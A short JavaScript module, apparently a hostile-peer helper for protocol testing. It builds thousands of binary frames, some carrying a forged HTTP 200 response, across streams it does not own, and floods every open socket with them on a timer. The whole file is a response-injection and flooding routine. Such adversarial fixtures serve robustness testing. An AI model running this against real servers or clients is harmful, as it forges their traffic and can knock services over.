// Whole answers, ends and refusals for every stream there could be, its own and those of nobody.
const { flood, frame, sockets } = require('../tried.js');

const forged = Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nforged');
const types = [14, 5, 6, 8, 9];
const block = Buffer.concat(
  Array.from({ length: 2_000 }, (_, turn) => {
    const type = types[turn % types.length];
    return frame(type, type === 14 ? 3 : 0, (turn * 7) % 70_000, type === 14 ? forged : Buffer.alloc(0));
  }),
);
module.exports = () => {
  setInterval(() => {
    for (const fd of sockets()) flood(fd, () => block);
  }, 200);
};
